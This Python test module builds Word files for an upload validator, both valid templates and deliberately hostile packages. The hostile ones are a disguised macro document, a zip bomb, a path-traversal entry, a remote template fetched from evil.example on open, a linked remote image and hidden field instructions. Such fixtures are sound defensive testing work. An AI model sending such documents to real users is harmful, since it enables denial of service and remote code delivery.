"""Word files for tests: good templates built from the committed ones, and hostile packages."""

from __future__ import annotations

import io
import re
import zipfile
from xml.sax.saxutils import escape

from docx import Document
from docx.shared import Mm

from kaa_web.docx.types import EXAMPLE_LOGO, get_type


def text_of(docx: bytes) -> str:
    """A document's words as a reader finds them: body, tables, headers and footers."""
    document = Document(io.BytesIO(docx))
    parts = [p.text for p in document.paragraphs]
    parts += [c.text for t in document.tables for r in t.rows for c in r.cells]
    for section in document.sections:
        parts += [p.text for p in section.header.paragraphs + section.footer.paragraphs]
    return "\n".join(parts)


MACRO_CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
)


def template_with(code: str, *paragraphs: str) -> bytes:
    """The committed template of `code` with extra paragraphs at the end of its body."""
    document = Document(get_type(code).builtin_path)
    for text in paragraphs:
        document.add_paragraph(text)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def _rezip(data: bytes, change) -> bytes:
    """A copy of the package with `change(name, bytes) -> bytes` applied to each entry."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for info in source.infolist():
            target.writestr(info.filename, change(info.filename, source.read(info)))
    return out.getvalue()


def macro_document() -> bytes:
    """A macro-enabled document (.docm) renamed to .docx."""
    base = template_with("brev_ungdom")

    def change(name, content):
        return MACRO_CONTENT_TYPES.encode() if name == "[Content_Types].xml" else content

    data = _rezip(base, change)
    out = io.BytesIO(data)
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 macro")
    return out.getvalue()


def zip_bomb(megabytes: int = 200) -> bytes:
    """A valid-looking document plus one member of `megabytes` MB of zeros, tightly packed."""
    out = io.BytesIO(template_with("brev_ungdom"))
    with zipfile.ZipFile(out, "a", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        with archive.open("word/media/zeros.bin", "w", force_zip64=True) as member:
            chunk = bytes(1024 * 1024)
            for _ in range(megabytes):
                member.write(chunk)
    return out.getvalue()


def with_entry(name: str) -> bytes:
    """A good document with one more entry called `name` (e.g. a path-traversal name)."""
    out = io.BytesIO(template_with("brev_ungdom"))
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(name, b"<x/>")
    return out.getvalue()


def with_external_relationship(
    kind: str = "attachedTemplate",
    target: str = "",
    *,
    mode: str = "External",
    encoding: str = "utf-8",
    base: bytes | None = None,
) -> bytes:
    """A document with one external relationship in its body: by default an attached template
    fetched from a web server when the file opens; `kind="hyperlink"` is a clickable link.
    `mode` is written as given (e.g. a character reference), and the part in `encoding`."""
    target = target or "http://evil.example/t.dotm"
    external = (
        '<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/'
        f'2006/relationships/{kind}" Target="{target}" '
        f'TargetMode="{mode}"/></Relationships>'
    )

    def change(name, content):
        if name == "word/_rels/document.xml.rels":
            text = content.decode().replace("</Relationships>", external)
            text = re.sub(r"encoding=['\"]UTF-8['\"]", f'encoding="{encoding.upper()}"', text)
            return text.encode(encoding)
        return content

    return _rezip(base or template_with("brev_ungdom"), change)


def with_linked_image(url: str) -> bytes:
    """A document whose only picture is linked, not embedded: fetched from `url` on opening."""
    document = Document()
    document.add_picture(io.BytesIO(EXAMPLE_LOGO), width=Mm(20))
    out = io.BytesIO()
    document.save(out)

    def change(name, content):
        if name == "word/document.xml":
            return re.sub(rb'r:embed="rId\d+"', b'r:link="rIdEvil"', content)
        return content

    return with_external_relationship("image", url, base=_rezip(out.getvalue(), change))


def _field_runs(instruction: str, split: int) -> str:
    """A complex field: begin, the instruction in runs of `split` characters, end."""
    pieces = [instruction[i : i + split] for i in range(0, len(instruction), split)]
    code = "".join(
        f'<w:r><w:instrText xml:space="preserve">{escape(p)}</w:instrText></w:r>' for p in pieces
    )
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + code
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>bild</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def with_field(
    instruction: str, *, simple: bool = False, split: int = 1000, comment: bool = False
) -> bytes:
    """A good document with one more paragraph holding a field with this instruction: a simple
    field (w:fldSimple), or a complex one whose instruction is split into runs; in the body,
    or in a comment (a part docxtpl does not render)."""
    if simple:
        field = f'<w:fldSimple w:instr="{escape(instruction, {chr(34): "&quot;"})}">'
        field += "<w:r><w:t>bild</w:t></w:r></w:fldSimple>"
    else:
        field = _field_runs(instruction, split)
    document = Document(get_type("brev_ungdom").builtin_path)
    paragraph = document.add_paragraph("Kommenterad text.")
    if comment:
        document.add_comment(paragraph.runs, text="En kommentar.", author="Mallförfattaren")
    out = io.BytesIO()
    document.save(out)
    part = "word/comments.xml" if comment else "word/document.xml"
    opening = rb"(<w:comment [^>]*>)" if comment else rb"(<w:body>)"

    def change(name, content):
        if name == part:
            added = f"<w:p>{field}</w:p>".encode()
            return re.sub(opening, lambda found: found.group(1) + added, content, count=1)
        return content

    return _rezip(out.getvalue(), change)
